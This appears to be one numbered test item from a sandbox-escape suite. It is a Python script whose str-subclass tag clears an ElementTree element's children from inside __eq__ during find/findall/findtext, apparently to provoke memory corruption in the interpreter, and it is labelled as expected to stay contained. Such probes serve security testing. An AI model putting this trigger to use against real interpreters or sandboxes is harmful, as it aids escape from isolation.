# escape: 199
# policy-wall: optional; it changes its own process alone
# technique: Element.find/findall/findtext with a tag whose __eq__ clears the children
# family: memory
# goal: memory
# expect: contained
import xml.etree.ElementTree as ET
hold = []
class Tag(str):
    def __eq__(self, other):
        root.clear()
        hold.extend([1] * 8 for _ in range(100))
        return False
    __hash__ = str.__hash__
for method in ('find', 'findall', 'findtext'):
    for _ in range(10):
        root = ET.Element('a')
        for i in range(8):
            root.append(ET.Element(Tag('b')))
        try:
            getattr(root, method)('c')
        except Exception as error:
            print(repr(error))
print('done')
